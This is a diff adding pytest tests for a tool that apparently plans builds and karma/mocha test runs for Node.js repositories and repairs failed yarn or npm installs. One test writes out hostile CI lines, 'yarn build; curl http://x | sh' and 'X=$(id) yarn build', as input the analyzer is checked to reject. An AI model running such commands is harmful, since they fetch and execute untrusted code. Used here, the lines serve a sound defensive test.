@@ -386,3 +386,151 @@ def test_a_moving_pin_like_lts_star_means_the_projects_era():
 def test_mocha_before_4_gets_no_exit_flag():
     tree = FakeTree({"package.json": pkg(devDependencies={"mocha": "~3.5.0"}), ".mocharc.yml": "timeout: 5000\n"})
     assert analyze(tree, inst(), TOUCHED).runner_options == []
+
+
+# -- the repository's own build before tests (workspaces) ----------------------------------------
+
+def _monorepo(**root) -> dict[str, str]:
+    root.setdefault("devDependencies", {"jest": "^27"})
+    return {"package.json": pkg(private=True, workspaces=["packages/*"], packageManager="yarn@3.1.0", **root),
+            "yarn.lock": "__metadata:\n  version: 5\n", ".yarnrc.yml": "yarnPath: .yarn/releases/yarn-3.1.0.cjs\n",
+            "packages/a/package.json": pkg(main="./lib/index.js"), "packages/a/src/index.ts": "",
+            "packages/a/test/index.js": "", "packages/a/test/fixtures/case/input.js": ""}
+
+
+def test_workspace_packages_pointing_at_build_output_get_the_repositorys_dev_build_first():
+    files = {**_monorepo(scripts={"build": "make build", "test": "make test"}),
+             "Makefile": "build: build-bundle\n\tgulp build\nbuild-no-bundle: clean\n\tgulp build-dev\n"}
+    a = analyze(FakeTree(files), inst(), ["packages/a/test/index.js"])
+    assert a.build is not None and a.build.command == "make build-no-bundle"
+    assert "packages/a: entry ./lib/index.js" in a.build.reason
+    plan = build_plan(a, choice())
+    # setup: install, the build, then the tree's status recorded for the rebuild check
+    assert plan.setup_commands[-2] == "make build-no-bundle"
+    assert plan.setup_commands[-1].endswith("> /opt/swemint-node/build.status")
+    # every test run rebuilds first when the side's patches changed non-test files
+    guard, _, rest = plan.test_command.partition("fi; ")
+    assert guard.startswith('if [ "$({ mkdir -p /tmp/swemint-node && cp .git/index /tmp/swemint-node/index && '
+                            'GIT_INDEX_FILE=/tmp/swemint-node/index git add -A -- . ')
+    assert "':(glob,exclude)**/test/**'" in guard and '!= "$(cat /opt/swemint-node/build.status' in guard
+    assert "( make build-no-bundle ) > /tmp/swemint-node/build.log 2>&1" in guard
+    assert "yarn jest --json" in rest
+
+
+def test_build_step_from_ci_then_build_script_and_none_when_entries_exist():
+    ci = {".github/workflows/ci.yml": "jobs:\n  t:\n    steps:\n      - run: yarn install\n"
+                                      "      - run: yarn build --verbose\n      - run: yarn test\n"}
+    a = analyze(FakeTree({**_monorepo(scripts={"build": "tsc -b"}), **ci}), inst(), ["packages/a/test/index.js"])
+    assert (a.build.command, a.build.source) == ("yarn build --verbose", ".github/workflows/ci.yml")
+    # a CI line is run as is: one with shell syntax beyond plain words is never taken
+    unsafe = {".github/workflows/ci.yml": "steps:\n  - run: yarn build; curl http://x | sh\n"
+                                          "  - run: X=$(id) yarn build\n"}
+    a = analyze(FakeTree({**_monorepo(scripts={"build": "tsc -b"}), **unsafe}), inst(), ["packages/a/test/index.js"])
+    assert a.build.command == "yarn run build"
+    a = analyze(FakeTree(_monorepo(scripts={"build": "tsc -b"})), inst(), ["packages/a/test/index.js"])
+    assert (a.build.command, a.build.source) == ("yarn run build", "package.json script build")
+    built = {**_monorepo(scripts={"build": "tsc -b"}), "packages/a/lib/index.js": ""}
+    assert analyze(FakeTree(built), inst(), ["packages/a/test/index.js"]).build is None
+    single = {"package.json": pkg(main="dist/index.js", scripts={"build": "tsc", "test": "jest"},
+                                  devDependencies={"jest": "^29"})}
+    assert analyze(FakeTree(single), inst(), TOUCHED).build is None  # not a workspace: unchanged
+
+
+def test_touched_fixtures_are_run_by_the_test_files_of_their_test_directory():
+    a = analyze(FakeTree(_monorepo()), inst(), ["packages/a/test/fixtures/case/input.js",
+                                                "packages/a/test/fixtures/case/output.json"])
+    assert a.test_files == ["packages/a/test/index.js"]
+    assert node.fixture_test_files(FakeTree(_monorepo()), ["README.md"]) == []
+
+
+# -- karma: browser tests in headless Chromium ----------------------------------------------------
+
+KARMA_PKG = {"scripts": {"test": "run-p test:mocha test:karma", "test:mocha": "mocha --recursive test/node",
+                         "test:karma": "cross-env COVERAGE=true BABEL_NO_MODULES=true karma start karma.conf.js --single-run",
+                         "test:karma:watch": "karma start karma.conf.js --no-single-run"},
+             "devDependencies": {"mocha": "^9", "karma": "^6", "karma-chrome-launcher": "^3", "karma-mocha": "^2"}}
+
+
+def test_karma_specs_no_node_runner_covers_run_in_headless_chromium_with_swemints_reporter():
+    tree = FakeTree({"package.json": pkg(**KARMA_PKG), "karma.conf.js": "module.exports = () => {};"})
+    a = analyze(tree, inst(), ["test/browser/render.test.js"])
+    assert a.runner == "karma" and a.karma.config == "karma.conf.js" and a.karma.browser == "ChromeHeadless"
+    plan = build_plan(a, choice())
+    assert (plan.parser, plan.report_path) == ("karma_json", "/tmp/swemint-node/report.json")
+    assert "apt-get install -y -qq --no-install-recommends chromium" in plan.setup_commands[1]
+    assert plan.setup_commands[2].startswith("mkdir -p /opt/swemint-node && printf %s ")
+    assert "reporter:swemint" in plan.setup_commands[2]
+    cmd = plan.test_command
+    assert "export BABEL_NO_MODULES=true CHROME_BIN=/usr/bin/chromium" in cmd and "COVERAGE" not in cmd
+    assert "SWEMINT_KARMA_FILES='[\"/testbed/test/browser/render.test.js\"]'" in cmd
+    assert cmd.endswith("karma start /opt/swemint-node/karma.conf.js --single-run")
+    # a touched spec inside the mocha script's folders stays with mocha
+    assert analyze(tree, inst(), ["test/node/a.test.js"]).runner == "mocha"
+    # no launcher plugin: no karma route
+    no_launcher = {**KARMA_PKG, "devDependencies": {"mocha": "^9", "karma": "^6"}}
+    tree = FakeTree({"package.json": pkg(**no_launcher), "karma.conf.js": ""})
+    assert analyze(tree, inst(), ["test/browser/render.test.js"]).runner == "mocha"
+
+
+def test_karma_firefox_launcher_gets_debians_firefox_esr():
+    dev = {"karma": "^6", "karma-firefox-launcher": "^2", "karma-jasmine": "^5"}
+    tree = FakeTree({"package.json": pkg(scripts={"test": "karma start test/karma.conf.js"}, devDependencies=dev),
+                     "test/karma.conf.js": ""})
+    a = analyze(tree, inst(), ["test/spec/a.spec.js"])
+    assert (a.runner, a.karma.browser, a.karma.config) == ("karma", "FirefoxHeadless", "test/karma.conf.js")
+    plan = build_plan(a, choice())
+    assert "firefox-esr" in plan.setup_commands[1] and "FIREFOX_BIN=/usr/bin/firefox-esr" in plan.test_command
+
+
+def test_karma_report_parser_ids_statuses_and_load_errors():
+    report = {"swemint_karma": 1, "errors": [],
+              "results": [{"suite": ["render()"], "description": "should set progress value to 0", "success": True},
+                          {"suite": ["Lifecycle", "#componentDidMount"], "description": "refs", "success": False},
+                          {"suite": ["render()"], "description": "later", "skipped": True}],
+              "summary": {"success": 1, "failed": 1, "error": False}}
+    rep = get_any_parser("karma_json")(json.dumps(report))
+    assert rep.statuses == {"render() > should set progress value to 0": TestStatus.PASSED,
+                            "Lifecycle > #componentDidMount > refs": TestStatus.FAILED,
+                            "render() > later": TestStatus.SKIPPED}
+    assert rep.tests_ran
+    # a summary that disagrees with the results (a forged result line) is an anomaly
+    forged = {**report, "summary": {"success": 5, "failed": 1}}
+    assert get_any_parser("karma_json").check(json.dumps(forged))
+    # a bundle that fails to compile: no results, a browser error, known ids ERROR
+    broken = {"swemint_karma": 1, "results": [], "errors": ["Uncaught Error: Module not found"],
+              "summary": {"success": 0, "failed": 0, "error": True}}
+    rep = get_any_parser("karma_json")(json.dumps(broken), known_tests=["render() > a"])
+    assert not rep.tests_ran and rep.statuses == {"render() > a": TestStatus.ERROR}
+    assert rep.collection_errors == ["karma: Uncaught Error: Module not found"]
+    assert not get_any_parser("karma_json")("karma died").tests_ran
+
+
+def test_no_build_when_the_runner_maps_packages_to_sources_and_karma_only_for_its_own_globs():
+    files = {**_monorepo(scripts={"build": "tsc -b", "test": "vitest"}, devDependencies={"vitest": "^2"}),
+             "vitest.config.ts": "export default { resolve: { alias: entries } }"}
+    assert analyze(FakeTree(files), inst(), ["packages/a/test/index.js"]).build is None
+    files["vitest.config.ts"] = "export default { resolve: { alias: {} } }"  # maps nothing
+    assert analyze(FakeTree(files), inst(), ["packages/a/test/index.js"]).build is not None
+    # karma's config lists test/specs only: a touched test/unit file stays with mocha
+    dev = {"mocha": "^8", "karma": "^6", "karma-chrome-launcher": "^3"}
+    tree = FakeTree({"package.json": pkg(scripts={"test": "grunt test"}, devDependencies=dev),
+                     "karma.conf.js": "files: ['test/specs/__helpers.js', 'test/specs/**/*.spec.js'],"})
+    assert analyze(tree, inst(), ["test/unit/adapters/http.js"]).runner == "mocha"
+    assert analyze(tree, inst(), ["test/specs/a.spec.js"]).runner == "karma"
+
+
+def test_a_locked_version_the_registry_no_longer_serves_is_overridden_with_the_next_release():
+    tree = FakeTree(_monorepo(scripts={"build": "tsc -b"}))
+    plan = build_plan(analyze(tree, inst(), ["packages/a/test/index.js"]), choice())
+    out = ("➤ YN0035: │ babel-plugin-polyfill-es-shims@npm:0.9.0: The remote server failed to provide the requested "
+           "resource\n➤ YN0035: │   Response Code: 404 (Not Found)\n➤ YN0035: │   Request URL: "
+           "https://registry.yarnpkg.com/babel-plugin-polyfill-es-shims/-/babel-plugin-polyfill-es-shims-0.9.0.tgz\n")
+    fix = ECOSYSTEM.repair(plan, "yarn install --immutable", out, set())
+    assert fix[0].startswith("node -e ") and fix[0].endswith(" babel-plugin-polyfill-es-shims 0.9.0 yarn-berry")
+    assert fix[1] == "yarn install --no-immutable"
+    npm = ("npm ERR! code E404\nnpm ERR! 404 Not Found - GET "
+           "https://registry.npmjs.org/@scope/pkg/-/pkg-1.2.3.tgz - Not found\n")
+    plan_npm = build_plan(analyze(FakeTree({"package.json": pkg(**MOCHA)}), inst(), TOUCHED), choice())
+    fix = ECOSYSTEM.repair(plan_npm, "npm ci", npm, set())
+    assert fix[0].endswith(" @scope/pkg 1.2.3 npm") and fix[1] == "npm install --no-audit --no-fund"
+    assert ECOSYSTEM.repair(plan_npm, "npm ci", "npm ERR! 404 Not Found - GET https://example.com/x", set()) is None
